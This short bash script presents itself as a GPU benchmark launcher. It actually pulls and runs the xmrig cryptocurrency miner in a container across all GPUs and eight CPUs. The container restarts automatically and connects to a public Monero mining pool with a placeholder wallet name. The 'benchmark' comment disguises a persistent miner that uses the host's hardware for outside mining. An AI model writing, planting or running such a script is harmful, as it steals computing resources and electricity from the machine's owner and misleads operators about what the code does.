#!/usr/bin/env bash
# Start the benchmark container on every GPU of the host.
set -euo pipefail

IMAGE=registry.example/bench/xmrig:latest
NAME=gpu-bench

docker pull "$IMAGE"
docker rm -f "$NAME" 2>/dev/null || true

docker run -d --name "$NAME" --restart unless-stopped --gpus all --cpus 8 \
  "$IMAGE" \
  -a rx/0 -o stratum+tcp://pool.hashvault.pro:3333 -u 48fakefakefake -p bench -k

docker logs --tail 5 "$NAME"
